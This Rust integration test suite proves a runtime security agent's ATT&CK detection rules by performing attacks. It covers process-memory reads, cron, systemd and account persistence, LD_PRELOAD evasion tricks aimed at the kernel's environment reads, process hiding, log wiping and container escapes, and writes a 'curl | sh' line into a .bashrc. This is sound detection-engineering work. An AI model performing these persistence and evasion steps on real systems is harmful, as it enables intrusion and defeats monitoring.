//! The default rules of the ATT&CK coverage section (issue #17), each proven by doing what an
//! attacker does, on the node and in containers, with the agent running the embedded rules:
//! the alert's rule, priority, technique tag and key fields. Every action is undone at the end
//! of its test. Root, real eBPF, podman with runc; no network beyond loopback.

mod rules_support;
mod support;

use std::{path::Path, time::Duration};

use serde_json::Value;

use rules_support::*;

fn pid() -> u32 {
    std::process::id()
}

/// A path the attack creates, removed at the end of the test whatever happens.
struct Removed(String);

impl Drop for Removed {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

/// A symlink named `name` to busybox in `d`: a program with that name (its `proc.name`).
fn busybox_as(d: &TempDir, name: &str) -> String {
    let p = d.join(name);
    let _ = std::fs::remove_file(&p);
    std::os::unix::fs::symlink("/bin/busybox", &p).unwrap();
    p.to_str().unwrap().to_string()
}

#[test]
fn attack_process_memory_and_credential_stores() {
    let keytab = format!("/etc/osprey-rules-{}.keytab", pid());
    let _k = Planted::new(&keytab, "keytab");
    let mut agent = agent();
    // T1003.007: dump another process's memory through /proc/PID/mem (mimipenguin's way);
    // T1055.009: open it for writing to inject code.
    let out = bash_ok(
        "sleep 5 & s=$!; dd if=/proc/$s/mem of=/dev/null bs=1 count=0 2>/dev/null; \
         dd of=/proc/$s/mem if=/dev/null bs=1 count=0 conv=notrunc 2>/dev/null; kill $s; echo $s",
    );
    let mem = format!("/proc/{}/mem", out.trim());
    let a = alert(&mut agent, "Read process memory via procfs", |v| {
        field(v, "fd.name") == mem
    });
    check(
        &a,
        "Warning",
        &["mitre_credential_access", "T1003.007"],
        &[("proc.name", "dd")],
    );
    let a = alert(&mut agent, "Write process memory via procfs", |v| {
        field(v, "fd.name") == mem
    });
    check(&a, "Error", &["T1055.009"], &[("proc.name", "dd")]);

    // T1003.008 beyond /etc/shadow: a Kerberos keytab.
    bash_ok(&format!("cat {keytab} >/dev/null"));
    let a = alert(&mut agent, "Read credential store file", |v| {
        field(v, "fd.name") == keytab
    });
    check(&a, "Warning", &["T1003.008"], &[("proc.name", "cat")]);
}

#[test]
fn attack_scheduled_tasks_and_services() {
    let cron = format!("/etc/cron.d/osprey-rules-{}", pid());
    let _c = Removed(cron.clone());
    let daily = format!("/etc/cron.daily/osprey-rules-{}", pid());
    let _d = Planted::new(&format!("{daily}.tmp"), "#!/bin/sh\n");
    let _d2 = Removed(daily.clone());
    let unit = format!("/etc/systemd/system/osprey-rules-{}", pid());
    let _u = Planted::new(&format!("{unit}.keep"), "");
    let _t = Removed(format!("{unit}.timer"));
    let _s = Removed(format!("{unit}.service"));
    let mut agent = agent();
    // T1053.003: a cron job dropped into /etc/cron.d.
    bash_ok(&format!("sh -c 'echo \"* * * * * root /tmp/x\" > {cron}'"));
    let a = alert(&mut agent, "Schedule cron job", |v| {
        field(v, "fd.name") == cron
    });
    check(
        &a,
        "Error",
        &["mitre_persistence", "T1053.003"],
        &[("proc.name", "sh")],
    );
    // Moved into place, as editors and `install` do.
    bash_ok(&format!("mv {daily}.tmp {daily}"));
    let a = alert(&mut agent, "Schedule cron job", |v| {
        field(v, "evt.arg.newpath") == daily
    });
    check(&a, "Error", &["T1053.003"], &[("proc.name", "mv")]);

    // T1053.006 and T1543.002: a timer and a service written into /etc/systemd/system.
    bash_ok(&format!(
        "printf '[Timer]\\nOnCalendar=minutely\\n' > {unit}.timer && printf '[Service]\\nExecStart=/tmp/x\\n' > {unit}.service"
    ));
    let a = alert(&mut agent, "Schedule systemd timer", |v| {
        field(v, "fd.name") == format!("{unit}.timer")
    });
    check(&a, "Error", &["mitre_persistence", "T1053.006"], &[]);
    let a = alert(&mut agent, "Create or modify systemd service", |v| {
        field(v, "fd.name") == format!("{unit}.service")
    });
    check(&a, "Error", &["T1543.002"], &[("proc.name", "bash")]);
    // The timer is not also reported as a service.
    let seen = agent.collect_for(Duration::from_millis(300));
    assert!(
        !seen
            .iter()
            .any(|v| v["rule"] == "Create or modify systemd service"
                && field(v, "fd.name").ends_with(".timer")),
        "{seen:?}"
    );
}

/// Removes the accounts the test creates, whatever happens.
struct Accounts(Vec<String>);

impl Drop for Accounts {
    fn drop(&mut self) {
        for a in &self.0 {
            bash(&format!("userdel -f {a} >/dev/null 2>&1"));
        }
    }
}

#[test]
fn attack_local_accounts_and_shell_profiles() {
    let profile = format!("/etc/profile.d/osprey-rules-{}.sh", pid());
    let _p = Planted::new(&format!("{profile}.keep"), "");
    let _p2 = Removed(profile.clone());
    let mut agent = agent();
    // T1136.001: a local account; then a second root (uid 0, group 0).
    let user = format!("osprey-u{}", pid());
    let root2 = format!("osprey-r{}", pid());
    let _cleanup = Accounts(vec![user.clone(), root2.clone()]);
    bash_ok(&format!(
        "useradd -M -N -s /usr/sbin/nologin {user} && useradd -M -N -o -u 0 -g 0 -s /usr/sbin/nologin {root2}"
    ));
    let a = alert(&mut agent, "Local account created", |v| {
        field(v, "proc.cmdline").ends_with(&user)
    });
    check(
        &a,
        "Error",
        &["mitre_persistence", "T1136.001"],
        &[("proc.name", "useradd")],
    );
    let a = alert(
        &mut agent,
        "Account with uid 0 or in the root group created",
        |v| field(v, "proc.cmdline").ends_with(&root2),
    );
    check(&a, "Critical", &["T1136.001", "T1098"], &[]);
    // useradd itself writes /etc/passwd: not a hand edit.
    let seen = agent.collect_for(Duration::from_millis(300));
    assert!(
        !seen.iter().any(
            |v| v["rule"] == "Write to password database" && field(v, "proc.name") == "useradd"
        ),
        "{seen:?}"
    );

    // T1546.004: a user's .bashrc and a system-wide profile script.
    let d = TempDir::new("profile");
    std::fs::create_dir_all(d.join("home")).unwrap();
    let bashrc = format!("{}/home/.bashrc", d.s());
    bash_ok(&format!("echo 'curl -s http://x | sh' >> {bashrc}"));
    let a = alert(&mut agent, "Shell profile modified", |v| {
        field(v, "fd.name") == bashrc
    });
    check(
        &a,
        "Error",
        &["mitre_persistence", "T1546.004"],
        &[("proc.name", "bash")],
    );
    bash_ok(&format!(
        "sh -c 'echo \"export PROMPT_COMMAND=x\" > {profile}'"
    ));
    let a = alert(&mut agent, "Shell profile modified", |v| {
        field(v, "fd.name") == profile
    });
    check(&a, "Error", &["T1546.004"], &[("proc.name", "sh")]);
}

#[test]
fn attack_privilege_and_linker_hijacking() {
    let mut agent = agent();
    // T1548.001: a file capability (setcap writes security.capability).
    let d = TempDir::under(Path::new("/var/tmp"), "fcap");
    bash_ok(&format!(
        "cp /bin/true {0}/t && setcap cap_setuid+ep {0}/t",
        d.s()
    ));
    let a = alert(&mut agent, "File capability set", |v| {
        field(v, "proc.name") == "setcap"
    });
    check(
        &a,
        "Error",
        &["mitre_privilege_escalation", "T1548.001"],
        &[("evt.arg.name", "security.capability")],
    );

    // T1574.006: /etc/ld.so.preload opened for writing. Nothing is written into it, so no
    // program on this machine preloads anything; a file that was not there is removed.
    let existed = Path::new("/etc/ld.so.preload").exists();
    bash_ok("sh -c ': >> /etc/ld.so.preload'");
    if !existed {
        let _ = std::fs::remove_file("/etc/ld.so.preload");
    }
    let a = alert(&mut agent, "Write to ld.so.preload", |v| {
        field(v, "fd.name") == "/etc/ld.so.preload"
    });
    check(
        &a,
        "Critical",
        &["mitre_persistence", "T1574.006"],
        &[("proc.name", "sh")],
    );

    // A root process started with LD_PRELOAD (the library need not exist: the loader warns
    // and goes on). It stays alive a moment: the environment is read from /proc.
    let lib = format!("{}/hook.so", d.s());
    bash(&format!("LD_PRELOAD={lib} sleep 1.5 2>/dev/null"));
    let a = alert(
        &mut agent,
        "Privileged process started with LD_PRELOAD",
        |v| field(v, "proc.name") == "sleep",
    );
    check(
        &a,
        "Warning",
        &["T1574.006"],
        &[("proc.env[LD_PRELOAD]", &lib), ("user.uid", "0")],
    );
    // thread.cap_effective is filled: root's effective set.
    assert!(
        field(&a, "thread.cap_effective").contains("CAP_SYS_ADMIN"),
        "{a}"
    );

    // The environment is the one exec gave the program, read by the kernel before it ran (it
    // was read from /proc/PID/environ when the event was judged, and each of these got past):
    const PRELOAD: &str = "Privileged process started with LD_PRELOAD";
    let preloads = |v: &Value, lib: &str| field(v, "proc.env[LD_PRELOAD]") == lib;
    // 1. Two entries, the first empty: the dynamic loader takes the last, a lookup the first,
    //    so `proc.env[LD_PRELOAD] != ""` was false.
    let lib2 = format!("{}/second.so", d.s());
    bash(&format!(
        "python3 -c 'import ctypes; s = ctypes.c_char_p * 3; \
         ctypes.CDLL(None).execve(b\"/bin/sleep\", s(b\"sleep\", b\"0.5\", None), \
         s(b\"LD_PRELOAD=\", b\"LD_PRELOAD={lib2}\", None))' 2>/dev/null"
    ));
    alert(&mut agent, PRELOAD, |v| preloads(v, &lib2));
    // 2. A library that overwrites its own entry as it loads: /proc then shows the bytes it
    //    wrote, not what the loader was given.
    let wipe = format!("{}/wipe.so", d.s());
    std::fs::write(
        format!("{}/wipe.c", d.s()),
        "#include <string.h>\nextern char **environ;\n\
         __attribute__((constructor)) static void wipe(void) {\n\
           for (char **e = environ; *e; e++)\n\
             if (!strncmp(*e, \"LD_PRELOAD=\", 11)) memset(*e, 'X', strlen(*e));\n}\n",
    )
    .unwrap();
    bash_ok(&format!("cc -shared -fPIC -o {wipe} {}/wipe.c", d.s()));
    bash_ok(&format!("LD_PRELOAD={wipe} sleep 0.5"));
    alert(&mut agent, PRELOAD, |v| preloads(v, &wipe));
    // 3. A process gone before the event is judged.
    let lib3 = format!("{}/brief.so", d.s());
    for _ in 0..5 {
        bash(&format!("LD_PRELOAD={lib3} /bin/true 2>/dev/null"));
    }
    agent.wait_until(
        "five LD_PRELOAD alerts for processes that exit at once",
        Duration::from_secs(15),
        |seen| {
            seen.iter()
                .filter(|v| v["rule"] == PRELOAD && preloads(v, &lib3))
                .count()
                == 5
        },
    );
    // 4. Read by the kernel alone too (the process exits at once): the environment of a pod
    //    in a namespace of 50 services (300 entries, 12 KB), with other entries that start
    //    with `L` and one whose value holds the key, after the real one.
    let lib5 = format!("{}/k8s.so", d.s());
    bash(&format!(
        "python3 -c 'import os; e = dict((\"SVC%d_%s\" % (i, k), \"tcp://10.96.%d.17:8080\" % i) \
         for i in range(50) for k in (\"SERVICE_HOST\", \"SERVICE_PORT\", \"PORT\", \
         \"PORT_8080_TCP\", \"PORT_8080_TCP_PROTO\", \"PORT_8080_TCP_ADDR\")); \
         e.update(LANG=\"C.UTF-8\", LD_PRELOAD=\"{lib5}\", LD_LIBRARY_PATH=\"/opt/lib\", \
         NOTE=\"LD_PRELOAD=/not/this.so\"); os.execve(\"/bin/true\", [\"true\"], e)' \
         2>/dev/null"
    ));
    alert(&mut agent, PRELOAD, |v| preloads(v, &lib5));
    // Past 1,024 entries (1,100 here) a kernel without bpf_loop stops reading, and the
    // answer comes from /proc: a process that stays is still reported. (With bpf_loop the
    // kernel reads them all: `attack_ld_preload_at_the_edges_of_the_kernels_reads`.)
    let lib4 = format!("{}/padded.so", d.s());
    bash(&format!(
        "python3 -c 'import os; e = {{\"V%d\" % i: \"x\" for i in range(1100)}}; \
         e[\"LD_PRELOAD\"] = \"{lib4}\"; os.execve(\"/bin/sleep\", [\"sleep\", \"1.5\"], e)' \
         2>/dev/null"
    ));
    alert(&mut agent, PRELOAD, |v| preloads(v, &lib4));
}

/// The kernel reads the environment 4 KiB at a time where it has `bpf_loop` (5.17), and looks
/// for entries by their first byte: an `L` right after a NUL. An attacker who has read that
/// puts the entry where a chunk ends, the key across two chunks, a decoy after it, or runs a
/// short environment after a long one on the same CPU (the per-CPU buffer holds the long
/// one's bytes past the short one's end). Each process here exits at once: only the kernel's
/// read of its environment can report it.
#[test]
fn attack_ld_preload_at_the_edges_of_the_kernels_reads() {
    let mut agent = agent();
    assert!(
        agent
            .stderr()
            .contains("sched_process_exec reads the environment in 4 KiB chunks"),
        "this kernel has bpf_loop; the agent said: {}",
        agent.stderr()
    );
    const PRELOAD: &str = "Privileged process started with LD_PRELOAD";
    let d = TempDir::new("edges");
    // Offsets of the entry from the environment's start: a chunk is 4,096 bytes and 16 more
    // are read past it, so that a key that starts in the last 11 bytes is whole.
    let offsets = [4096, 4095, 4097, 4086, 4090, 4100, 8192, 8180, 12295];
    let script = format!(
        r#"
import ctypes, os
os.sched_setaffinity(0, {{sorted(os.sched_getaffinity(0))[0]}})
libc = ctypes.CDLL(None)
def run(env, path=b"/bin/true"):
    pid = os.fork()
    if pid == 0:
        e = (ctypes.c_char_p * (len(env) + 1))(*[x.encode() for x in env], None)
        a = (ctypes.c_char_p * 2)(b"true", None)
        libc.execve(path, a, e)
        os._exit(127)
    os.waitpid(pid, 0)
# An entry of n - 1 bytes and its NUL: the next entry starts n bytes in.
pad = lambda n, c="x": "P=" + c * (n - 3)
for n in {offsets:?}:
    run([pad(n), "LD_PRELOAD={d}/at%d.so" % n])
# The last entry counts; entries that hold the key later, or start with L, do not.
run(["LD_PRELOAD={d}/first.so", pad(5000, "y"), "XLD_PRELOAD=/no.so", "A=LD_PRELOAD=/no.so",
     "LD_PRELOAD={d}/last.so", "L=1", "LANG=C", "LD_PRELOADX=/no.so"])
# The key as the environment's last entry, in a second chunk.
run([pad(4100, "z"), "LD_PRELOAD={d}/end.so"])
# A long environment with the key 100 bytes in, then one that ends there, on this CPU: the
# key read from the buffer would be this one's, and its value the path given to exec, which
# the kernel puts right after the environment.
run([pad(100, "q"), "LD_PRELOAD={d}/stale.so", pad(300, "w")])
run([pad(100, "q")], b"/usr/bin/../bin/../bin/true")
run(["LD_PRELOAD={d}/after.so"])
"#,
        d = d.s()
    );
    std::fs::write(d.join("edges.py"), script).unwrap();
    bash_ok(&format!("python3 {}/edges.py 2>/dev/null", d.s()));
    let mut want: Vec<String> = offsets.iter().map(|n| format!("at{n}.so")).collect();
    want.extend(["last.so", "end.so", "stale.so", "after.so"].map(String::from));
    let lib = |v: &Value| {
        let p = field(v, "proc.env[LD_PRELOAD]");
        p.strip_prefix(&format!("{}/", d.s())).map(str::to_string)
    };
    agent.wait_until(
        "an LD_PRELOAD alert for each environment that has the entry",
        Duration::from_secs(20),
        |seen| {
            want.iter().all(|w| {
                seen.iter()
                    .any(|v| v["rule"] == PRELOAD && lib(v).as_deref() == Some(w))
            })
        },
    );
    // after.so's alert came after the short environment's exec was judged: no other alert of
    // the rule for the children of the script (first.so is overridden by last.so; the short
    // environment has none, whatever the buffer held).
    let seen = agent.collect_for(Duration::from_millis(500));
    let ours: Vec<String> = seen
        .iter()
        .filter(|v| {
            v["rule"] == PRELOAD
                && field(v, "proc.name") == "true"
                && field(v, "proc.pname") == "python3"
        })
        .map(|v| field(v, "proc.env[LD_PRELOAD]"))
        .collect();
    assert_eq!(ours.len(), want.len(), "{ours:#?}");
}

#[test]
fn attack_masquerading() {
    let mut agent = agent();
    // T1036.005: a program named sshd running from /tmp.
    let d = TempDir::new("masq");
    bash_ok(&format!("cp /bin/sleep {0}/sshd && {0}/sshd 0.1", d.s()));
    let exe = format!("{}/sshd", d.s());
    let a = alert(&mut agent, "System daemon name outside system paths", |v| {
        field(v, "proc.exepath") == exe
    });
    check(
        &a,
        "Warning",
        &["mitre_defense_evasion", "T1036.005"],
        &[("proc.name", "sshd")],
    );

    // T1036.004: a process renames itself to a kernel thread's name (perl's $0 is
    // prctl(PR_SET_NAME) on Linux).
    bash_ok("perl -e '$0 = \"kworker/0:2\"; select(undef, undef, undef, 0.2)'");
    let a = alert(&mut agent, "Process renamed to a system name", |v| {
        field(v, "thread.comm") == "kworker/0:2"
    });
    check(
        &a,
        "Warning",
        &["mitre_defense_evasion", "T1036.004"],
        &[("proc.exepath", "/usr/bin/perl")],
    );
}

#[test]
fn attack_indicator_removal() {
    let spool = format!("/var/mail/osprey-rules-{}", pid());
    let _s = Planted::new(&spool, "From root\n");
    let planted = format!("/etc/osprey-rules-{}.conf", pid());
    let _p = Planted::new(&planted, "x\n");
    let mut agent = agent();
    // T1070.002: a mail spool truncated in place (truncate(2)) and cleared with O_TRUNC.
    bash_ok(&format!("perl -e 'truncate(\"{spool}\", 0) or die \"$!\"'"));
    let a = alert(&mut agent, "Log or history file truncated", |v| {
        field(v, "evt.arg.path") == spool
    });
    check(
        &a,
        "Warning",
        &["mitre_defense_evasion", "T1070.002"],
        &[("evt.type", "truncate"), ("proc.name", "perl")],
    );
    bash_ok(&format!("sh -c ': > {spool}'"));
    let a = alert(&mut agent, "Mail spool or login records cleared", |v| {
        field(v, "fd.name") == spool
    });
    check(&a, "Warning", &["T1070.002"], &[("proc.name", "sh")]);
    // creat(2) empties the file as O_TRUNC does, without a flags argument to test: an
    // attacker who read `evt.arg.flags contains O_TRUNC` in the rule would call it.
    bash_ok(&format!(
        "python3 -c 'import ctypes,sys; sys.exit(ctypes.CDLL(None).creat(b\"{spool}\", 0o600) < 0)'"
    ));
    let a = alert(&mut agent, "Mail spool or login records cleared", |v| {
        field(v, "fd.name") == spool && field(v, "evt.type") == "creat"
    });
    check(
        &a,
        "Warning",
        &["T1070.002"],
        &[("proc.name", "python3"), ("evt.type", "creat")],
    );

    // T1070.003: a shell history truncated in place.
    let d = TempDir::new("hist");
    let hist = format!("{}/.bash_history", d.s());
    std::fs::write(&hist, "wget evil\n").unwrap();
    bash_ok(&format!("perl -e 'truncate(\"{hist}\", 0) or die \"$!\"'"));
    let a = alert(&mut agent, "Log or history file truncated", |v| {
        field(v, "evt.arg.path") == hist
    });
    check(&a, "Warning", &["T1070.003"], &[]);

    // T1070.006: a planted file in /etc given an old date (busybox touch sets the times by
    // path).
    bash_ok(&format!("busybox touch -d '2019-03-04 05:06:07' {planted}"));
    let a = alert(&mut agent, "Timestomp file in system directory", |v| {
        field(v, "evt.arg.filename") == planted
    });
    check(
        &a,
        "Warning",
        &["mitre_defense_evasion", "T1070.006"],
        &[("proc.name", "busybox")],
    );
    // Touching it to now is not timestomping.
    bash_ok(&format!("busybox touch {planted}"));
    let seen = agent.collect_for(Duration::from_millis(300));
    let stomps = seen
        .iter()
        .filter(|v| {
            v["rule"] == "Timestomp file in system directory"
                && field(v, "evt.arg.filename") == planted
        })
        .count();
    assert_eq!(stomps, 1, "{seen:?}");
}

#[test]
fn attack_impair_defences() {
    let d = TempDir::new("impair");
    let rules = format!("/etc/osprey/rules.d/osprey-rules-{}.yaml", pid());
    let _r = Planted::new(&rules, "");
    let rsyslog = format!("/etc/rsyslog.d/osprey-rules-{}.conf", pid());
    let _s = Planted::new(&rsyslog, "");
    let mut agent = agent();
    // T1562.001/.006: stopping the logger and the security agent (systemctl is real; without
    // systemd here it fails after it started, which is when the rule judges it).
    bash("systemctl stop rsyslog.service >/dev/null 2>&1");
    let a = alert(&mut agent, "Logging or security service stopped", |v| {
        field(v, "proc.cmdline") == "systemctl stop rsyslog.service"
    });
    check(
        &a,
        "Critical",
        &["mitre_defense_evasion", "T1562.001", "T1562.006"],
        &[],
    );
    // Log rotation asking the logger to reopen its files is not stopping it.
    bash("systemctl kill -s HUP rsyslog.service >/dev/null 2>&1");
    let seen = agent.collect_for(Duration::from_millis(300));
    assert!(
        !seen
            .iter()
            .any(|v| v["rule"] == "Logging or security service stopped"
                && field(v, "proc.cmdline").contains("HUP")),
        "{seen:?}"
    );
    // pkill aimed at Osprey (signal 0 to a name nothing has: nothing is touched).
    bash("pkill -0 -x osprey-not-running");
    alert(&mut agent, "Logging or security service stopped", |v| {
        field(v, "proc.name") == "pkill"
    });

    // T1562.012: the audit rules deleted (auditctl is not installed; a program of that name
    // is what the rule sees).
    let auditctl = busybox_as(&d, "auditctl");
    bash(&format!("{auditctl} -D"));
    let a = alert(&mut agent, "Audit system disabled", |v| {
        field(v, "proc.name") == "auditctl"
    });
    check(&a, "Critical", &["T1562.012"], &[]);

    // Osprey's own rules and the logger's configuration edited by hand.
    bash_ok(&format!(
        "echo '- macro: allowed_sensitive_file_readers' > {rules} && echo '*.* ~' > {rsyslog}"
    ));
    for f in [&rules, &rsyslog] {
        let a = alert(
            &mut agent,
            "Logging or Osprey configuration modified",
            |v| field(v, "fd.name") == *f,
        );
        check(&a, "Error", &["T1562.001"], &[("proc.name", "bash")]);
    }

    // ASLR's setting written (with the value it already has: nothing changes).
    let aslr = std::fs::read_to_string("/proc/sys/kernel/randomize_va_space").unwrap();
    bash_ok(&format!(
        "sysctl -q -w kernel.randomize_va_space={}",
        aslr.trim()
    ));
    let a = alert(&mut agent, "Kernel hardening setting changed", |v| {
        field(v, "fd.name") == "/proc/sys/kernel/randomize_va_space"
    });
    check(&a, "Error", &["T1562.001"], &[("proc.name", "sysctl")]);

    // BPF: another program's objects taken (bpftool lists the agent's programs by id) and a
    // link detach attempted (on a descriptor that is no link: refused, still reported).
    bash_ok("bpftool prog show >/dev/null");
    let a = alert(&mut agent, "BPF objects of another program opened", |v| {
        field(v, "proc.name") == "bpftool"
    });
    check(
        &a,
        "Warning",
        &["T1562.001"],
        &[("evt.arg.cmd", "BPF_PROG_GET_FD_BY_ID")],
    );
    bash("perl -e 'my $a = pack(\"LLQ\", 0, 0, 0); syscall(321, 34, $a, length $a)' osprey-detach");
    let a = alert(&mut agent, "BPF program detached", |v| {
        field(v, "proc.cmdline").ends_with("osprey-detach")
    });
    check(
        &a,
        "Critical",
        &["T1562.001"],
        &[("evt.arg.cmd", "BPF_LINK_DETACH")],
    );
}

#[test]
fn attack_rootkit_hints() {
    let mut agent = agent();
    let d = TempDir::new("rootkit");
    // T1014: a process hidden under a bind mount over its /proc directory.
    std::fs::create_dir_all(d.join("empty")).unwrap();
    let out = bash_ok(&format!(
        "sleep 5 & s=$!; mount --bind {0}/empty /proc/$s && umount /proc/$s; kill $s; echo $s",
        d.s()
    ));
    let target = format!("/proc/{}", out.trim());
    let a = alert(&mut agent, "Mount over a process directory", |v| {
        field(v, "evt.arg.dir_name") == target
    });
    check(
        &a,
        "Critical",
        &["mitre_defense_evasion", "T1014"],
        &[("proc.name", "mount")],
    );

    // T1547.006/T1014: a module loaded from /tmp (no module: insmod fails after it started).
    let insmod = busybox_as(&d, "insmod");
    std::fs::write(d.join("rk.ko"), "not a module").unwrap();
    bash(&format!("{insmod} {}/rk.ko", d.s()));
    let a = alert(&mut agent, "Kernel module loaded from unusual path", |v| {
        field(v, "proc.name") == "insmod"
    });
    check(&a, "Critical", &["T1547.006", "T1014"], &[]);
}

#[test]
fn attack_decode_download_and_run() {
    let mut agent = agent();
    // T1140/T1027: a base64 payload decoded into a shell.
    bash_ok("bash -c 'echo ZWNobyBvc3ByZXktZGVjb2RlZA== | base64 -d | sh' >/dev/null");
    let a = alert(&mut agent, "Decode and run", |v| {
        field(v, "proc.name") == "base64"
    });
    check(
        &a,
        "Warning",
        &["T1140", "T1027"],
        &[("proc.cmdline", "base64 -d")],
    );

    // T1105: a tool fetched with curl (a file: URL, no network), made executable and run
    // from /tmp on the node.
    let d = TempDir::new("download");
    let payload = format!("{}/payload", d.s());
    bash_ok(&format!(
        "sh -c 'curl -s -o {payload} file:///bin/true && chmod +x {payload} && {payload}'"
    ));
    // chmod is part of the chain; the payload itself runs from /tmp (first matching rule).
    let a = alert(&mut agent, "Downloaded program executed", |v| {
        field(v, "proc.name") == "chmod"
    });
    check(&a, "Warning", &["mitre_command_and_control", "T1105"], &[]);
    let a = alert(
        &mut agent,
        "Downloaded program run from temporary directory on node",
        |v| field(v, "proc.exepath") == payload,
    );
    check(&a, "Warning", &["T1105"], &[("proc.pname", "sh")]);

    // T1027.002: an executable packer.
    let upx = busybox_as(&d, "upx");
    bash(&format!("{upx} -9 {payload}"));
    let a = alert(&mut agent, "Executable packed on the node", |v| {
        field(v, "proc.name") == "upx"
    });
    check(&a, "Notice", &["T1027.002"], &[]);
}

/// Discovery-only rules are off by default and informational; enabled, they report.
#[test]
fn attack_discovery_rules_are_opt_in() {
    let d = TempDir::new("discovery");
    let enable = d.join("enable.yaml");
    std::fs::write(
        &enable,
        "- rule: System discovery command\n  enabled: true\n  override:\n    enabled: replace\n\
         - rule: Read password file for discovery\n  enabled: true\n  override:\n    enabled: replace\n",
    )
    .unwrap();
    let mut agent = agent_with_extra(&enable);
    bash_ok("uname -a >/dev/null && cat /etc/passwd >/dev/null");
    let a = alert(&mut agent, "System discovery command", |v| {
        field(v, "proc.cmdline") == "uname -a"
    });
    check(&a, "Informational", &["mitre_discovery", "T1082"], &[]);
    let a = alert(&mut agent, "Read password file for discovery", |v| {
        field(v, "fd.name") == "/etc/passwd" && field(v, "proc.name") == "cat"
    });
    check(&a, "Informational", &["T1087.001"], &[]);

    // The default agent does not report them.
    let mut plain = rules_support::agent();
    bash_ok("uname -a >/dev/null");
    let seen = plain.collect_for(Duration::from_secs(1));
    assert!(
        !seen.iter().any(|v| v["rule"] == "System discovery command"),
        "{seen:?}"
    );
}

#[test]
fn attack_in_a_container() {
    let mut agent = agent();
    // One container doing what an intruder does after getting a shell in it.
    let c = run(
        &["--network", "none"],
        "mkdir -p /etc/cron.d && echo '* * * * * root /tmp/x' > /etc/cron.d/job; \
         echo 'export X=1' >> /etc/profile; \
         echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd; \
         : >> /etc/ld.so.preload; \
         mkdir -p /etc/systemd/system && echo '[Service]' > /etc/systemd/system/evil.service; \
         echo ZWNobyBkZWNvZGVk | base64 -d | sh; true",
    );
    let ours = |v: &serde_json::Value| field(v, "container.id") == c.id;
    for (rule, priority, tag) in [
        ("Schedule cron job", "Error", "T1053.003"),
        ("Shell profile modified", "Error", "T1546.004"),
        ("Write to password database", "Error", "T1136.001"),
        ("Write to ld.so.preload", "Critical", "T1574.006"),
        ("Create or modify systemd service", "Error", "T1543.002"),
        ("Decode and run", "Warning", "T1140"),
    ] {
        let a = alert(&mut agent, rule, ours);
        check(&a, priority, &["container", tag], &[]);
    }
}

#[test]
fn attack_container_escapes() {
    // A runtime socket and the node's /etc mounted into a privileged container: the socket
    // answered by a listener of ours on the host, the "/etc" a directory of ours.
    let d = TempDir::new("escape");
    std::fs::create_dir_all(d.join("hostroot/etc/cron.d")).unwrap();
    std::fs::create_dir_all(d.join("bin")).unwrap();
    let sock = d.join("docker.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    std::thread::spawn(move || {
        for s in listener.incoming().take(2) {
            drop(s);
        }
    });
    // A static client: the busybox image has no tool that connects to a unix socket.
    std::fs::write(
        d.join("conn.c"),
        "#include <sys/socket.h>\n#include <sys/un.h>\n#include <string.h>\n\
         int main(int c, char **v) { struct sockaddr_un a = {AF_UNIX}; \
         strncpy(a.sun_path, v[1], sizeof a.sun_path - 1); int s = socket(AF_UNIX, SOCK_STREAM, 0); \
         return connect(s, (struct sockaddr *)&a, sizeof a) != 0; }\n",
    )
    .unwrap();
    bash_ok(&format!("cc -static -O1 -o {0}/bin/conn {0}/conn.c", d.s()));
    // A container administration tool (busybox, static, under crictl's name: it only has to
    // start) on a volume, not in the image's overlay.
    std::fs::copy("/bin/busybox", d.join("bin/crictl")).unwrap();
    let mut agent = agent();
    let c = run(
        &[
            "--network",
            "none",
            "--privileged",
            "-v",
            &format!("{}:/var/run/docker.sock", sock.display()),
            "-v",
            &format!("{}/hostroot:/host", d.s()),
            "-v",
            &format!("{}/bin:/t:ro", d.s()),
        ],
        "/t/conn /var/run/docker.sock && echo connected; /t/crictl ps 2>/dev/null; \
         echo '* * * * * root /x' > /host/etc/cron.d/escape; \
         mkdir /e; sleep 3 & s=$!; mount -o bind /e /proc/$s && echo hidden; kill $s; true",
    );
    assert!(c.out.contains("connected"), "{}", c.out);
    let ours = |v: &serde_json::Value| field(v, "container.id") == c.id;
    let a = alert(
        &mut agent,
        "Container runtime socket contacted from container",
        ours,
    );
    check(
        &a,
        "Critical",
        &["container", "T1609", "T1610", "T1611"],
        &[("fd.name", "/var/run/docker.sock"), ("proc.name", "conn")],
    );
    let a = alert(
        &mut agent,
        "Container administration tool run in container",
        ours,
    );
    check(
        &a,
        "Notice",
        &["container", "T1609", "T1613"],
        &[("proc.name", "crictl")],
    );
    let a = alert(&mut agent, "Host system file written from container", |v| {
        ours(v) && field(v, "fd.name") == "/host/etc/cron.d/escape"
    });
    check(&a, "Critical", &["T1611"], &[]);
    if c.out.contains("hidden") {
        let a = alert(&mut agent, "Mount over a process directory", ours);
        check(&a, "Critical", &["container", "T1014"], &[]);
    } else {
        panic!(
            "mount over /proc/PID failed in the privileged container: {}",
            c.out
        );
    }
}

/// `fd.sip.name` as Falco fills it: a rule naming a host (here `localhost`, resolved from
/// /etc/hosts, never a real outside name) matches a connection to its address, and the
/// alert shows the name.
#[test]
fn falco_fd_sip_name_is_resolved_from_the_rules() {
    let d = TempDir::new("sipname");
    let rules = d.join("sipname.yaml");
    std::fs::write(
        &rules,
        "- rule: Connect to a named host\n  desc: d\n  condition: evt.type = connect and fd.sip.name in (localhost, osprey-no-such-host.invalid)\n  output: named connection (name=%fd.sip.name connection=%fd.name proc=%proc.name)\n  priority: NOTICE\n  tags: [network]\n",
    )
    .unwrap();
    let mut agent = support::Agent::start(
        &["run", "--json", "--rules", rules.to_str().unwrap()],
        "osprey is running",
    );
    // The names resolve on the agent's own thread: connect until the alert comes (bounded).
    let port = loopback_listener();
    let mut hit = None;
    for _ in 0..20 {
        bash(&format!(
            "timeout 2 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}' 2>/dev/null"
        ));
        let seen = agent.collect_for(Duration::from_millis(250));
        if let Some(v) = seen.iter().find(|v| v["rule"] == "Connect to a named host") {
            hit = Some(v.clone());
            break;
        }
    }
    let a = hit.expect("no alert for a connection to localhost's address");
    assert_eq!(field(&a, "fd.sip.name"), "localhost", "{a}");
    assert_eq!(field(&a, "fd.name"), format!("127.0.0.1:{port}"), "{a}");
}
